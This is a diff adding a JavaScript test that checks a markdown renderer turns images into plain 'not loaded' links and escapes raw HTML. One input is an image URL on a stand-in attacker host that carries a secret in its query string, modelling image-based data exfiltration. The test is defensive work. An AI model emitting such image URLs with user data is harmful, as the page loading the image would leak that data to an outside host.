@@ -14,6 +14,24 @@ test('markdown renders, raw HTML is escaped and script links are dropped', () =>
   assert.match(html, /href="https:\/\/example.org"/);
 });
 
+test('an image in a reply is a link the person may follow, never loaded', () => {
+  const html = renderMarkdown(
+    [
+      'Here: ![chart](https://attacker.example/p.png?d=SECRET "t")',
+      'Ref: ![ref][r] and linked [![inner](https://a.example/i.png)](https://b.example/)',
+      'Raw: <img src="https://c.example/x.png">, data: ![d](data:image/png;base64,AAAA), bare ![](https://e.example/z.gif)',
+      '',
+      '[r]: https://d.example/r.png',
+    ].join('\n'),
+  );
+  assert.ok(!/<img/i.test(html), html);
+  assert.match(html, /<a class="image-link" href="https:\/\/attacker.example\/p.png\?d=SECRET" title="[^"]+">\[image “chart” from attacker.example \(not loaded\)\]<\/a>/);
+  assert.match(html, /href="https:\/\/d.example\/r.png"/);
+  assert.match(html, /href="https:\/\/a.example\/i.png"/);
+  assert.match(html, /image from e.example/);
+  assert.ok(html.includes('&lt;img src='), 'raw HTML stays text');
+});
+
 test('view entries carry rendered markdown, nested too', () => {
   const v = toView({
     id: 'sub:c',
